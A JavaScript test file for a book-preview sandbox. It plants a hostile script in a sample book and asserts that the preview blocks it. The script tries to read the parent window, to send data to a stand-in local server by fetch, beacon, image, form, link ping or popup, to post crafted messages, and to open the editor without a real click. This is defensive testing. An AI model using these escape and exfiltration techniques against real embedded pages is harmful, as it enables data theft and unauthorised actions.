// A book from somebody else, with a script of its own, in the real preview: what that script can reach.

import assert from "node:assert/strict";
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { after, describe, test } from "node:test";
import { launch } from "./browser.mjs";
import { siteOf } from "./frame.mjs";
import { copyOfSample } from "./watch.mjs";

const browser = await launch();
after(() => browser.close());

// Each runs in the page of the book, with the addresses of the window and of another server, and returns what it has read: nothing, if
// the preview holds.
const READS = {
  "the window's document": () => parent.document.documentElement.outerHTML,
  "the top document": () => top.document.documentElement.outerHTML,
  "the window's address": () => parent.location.href,
  "the problems, from the window": ({ window }) => fetch(`${window}/~handout/events?page=/`).then((answer) => answer.text()),
  "the problems, by a stream": ({ window }) => new Promise((done, failed) => {
    const source = new EventSource(`${window}/~handout/events?page=/`);
    source.addEventListener("state", ({ data }) => done(data));
    source.onerror = failed;
  }),
  "the problems, from its own server": async () => {
    const answer = await fetch("/~handout/events?page=/");
    return answer.ok ? answer.text() : "";
  },
  "the page of a draft's address": async () => (await (await fetch("/exercises/secret-draft/")).text()).match(/secret-draft\.md/)?.[0],
  "the window, in a frame of its own": ({ window }) => new Promise((done, failed) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.src = `${window}/`;
    frame.onload = () => { try { done(frame.contentDocument.documentElement.outerHTML); } catch (error) { failed(error); } };
    setTimeout(failed, 1000);
  }),
  "a service worker's place": () => navigator.serviceWorker.register(document.querySelector("script[src*='/assets/site.']").src).then(() => "registered"),
  "a message of the window with more than a tag": () => new Promise((done, failed) => {
    addEventListener("message", ({ data }) => Object.keys(data).some((key) => !["tag", "absent"].includes(key)) && done(JSON.stringify(data)));
    setTimeout(failed, 500);
  }),
};

// Each tries to do something: to open the editor, or to carry something to another server.
const ACTS = {
  "a request to the editor's route": ({ window, edit }) => fetch(window + edit, { method: "POST", mode: "no-cors" }),
  "the same on its own server": ({ edit }) => fetch(edit, { method: "POST" }),
  "a form": ({ window, edit }) => {
    const form = Object.assign(document.createElement("form"), { action: window + edit, method: "post" });
    document.body.append(form);
    form.submit();
  },
  "a picture": ({ window, edit, other }) => [window + edit, `${other}/picture`].forEach((src) => (new Image().src = src)),
  "a request elsewhere": ({ other }) => fetch(`${other}/fetch`, { mode: "no-cors" }),
  "a beacon": ({ other }) => navigator.sendBeacon(`${other}/beacon`, "x"),
  "a window of its own": ({ other }) => open(`${other}/popup`),
  "a frame": ({ other }) => (document.body.appendChild(document.createElement("iframe")).src = `${other}/frame`),
  "a click on a link that it made": ({ other }) => {
    const link = Object.assign(document.createElement("a"), { href: `${other}/link`, target: "_top", ping: `${other}/ping` });
    document.body.append(link);
    link.click();
  },
  "the words of the page to its window": ({ other }) => {
    parent.postMessage({ leads: `${other}/leads` }, "*");
    parent.postMessage({ at: `${other}/at`, title: "x" }, "*");
    parent.postMessage({ at: "/~handout/edit/x/0" }, "*");
  },
  "the address of the whole tab": ({ other }) => (top.location = `${other}/top`),
  "its own address": ({ other }) => (location = `${other}/self`),
};

describe("a hostile book in the preview", () => {
  test("reads nothing, does nothing, and sends nothing, and a person's click still works", async () => {
    const asked = [];
    const other = createServer(({ method, url }, response) => response.end(void asked.push(`${method} ${url}`)));
    await new Promise((ready) => other.listen(0, "127.0.0.1", ready));
    const book = copyOfSample();
    try {
      await runHostile(book, `http://127.0.0.1:${other.address().port}`, asked);
    } finally {
      await book.end();
      other.close();
    }
  });
});

async function runHostile(book, other, received) {
  const opened = hostile(book);
  await book.start();
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${book.origin()}/exercises/bridge/`);
  const link = page.locator("handout-live .panel li a").first();
  await link.waitFor();
  const edit = new URL(await link.evaluate((link) => link.href)).pathname;
  const given = { window: book.origin(), other, edit };

  let site = await siteOf(page);
  assert.equal(await site.evaluate(() => globalThis.runsHere), true, "the book's own script runs");
  for (const [what, read] of Object.entries(READS)) {
    const found = await site.evaluate(read, given).catch(() => undefined);
    assert(!found, `it has read ${what}: ${found}`);
  }
  for (const [what, act] of Object.entries(ACTS)) {
    // What an earlier one has done to the frame must not keep this one from trying.
    await page.goto(`${book.origin()}/exercises/bridge/`);
    site = await siteOf(page);
    await site.evaluate(act, given).catch(() => {});
    await page.waitForTimeout(300);
    assert.deepEqual(received, [], what);
    assert.equal(opened(), 0, what);
    assert.equal(new URL(page.url()).origin, book.origin(), what);
    assert.equal(context.pages().length, 1, what);
  }

  // In a tab of its own a page would be free to go elsewhere: it is shown in the window again.
  const own = await page.locator("body").getAttribute("data-book");
  await page.goto(`${own}/exercises/bridge/`);
  assert.equal(page.url(), `${book.origin()}/exercises/bridge/`);

  // A click that a script has made is none; a person's is.
  await link.waitFor();
  const asked = await link.evaluate((link) => {
    const own = globalThis.fetch;
    let asked = 0;
    globalThis.fetch = (...given) => (asked++, own(...given));
    link.click();
    for (const type of ["click", "auxclick", "pointerdown"]) link.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true, composed: true }));
    globalThis.fetch = own;
    return asked;
  });
  assert.equal(asked, 0, "the editor is not even asked for");
  assert.equal(opened(), 0);
  await link.click();
  await page.locator("handout-live .result").filter({ hasText: "Opened." }).waitFor();
  for (let waited = 0; opened() === 0 && waited < 5000; waited += 50) await page.waitForTimeout(50);
  assert.equal(opened(), 1);
  await context.close();
}

// Makes the book hostile, with a mistake that can be opened in the editor; returns how often the editor was opened.
function hostile(book) {
  const editor = book.path("editor");
  writeFileSync(editor, '#!/bin/sh\necho opened >> "$0.opened"\n');
  chmodSync(editor, 0o755);
  book.visual(editor);
  book.edit("book.toml", "[clinic]", '[watch]\neditor = "visual"\n\n[clinic]');
  book.edit("content/exercises/bridge.md", "hold: 5 s", "hold: 5-10");
  book.write("content/exercises/secret-draft.md", book.read("content/exercises/clamshell.md").replace("---\n", "---\ndraft: true\n"));
  mkdirSync(book.path("static"), { recursive: true });
  book.write("static/site.js", "globalThis.runsHere = true;\n");
  return () => (existsSync(`${editor}.opened`) ? readFileSync(`${editor}.opened`, "utf8").split("\n").length - 1 : 0);
}
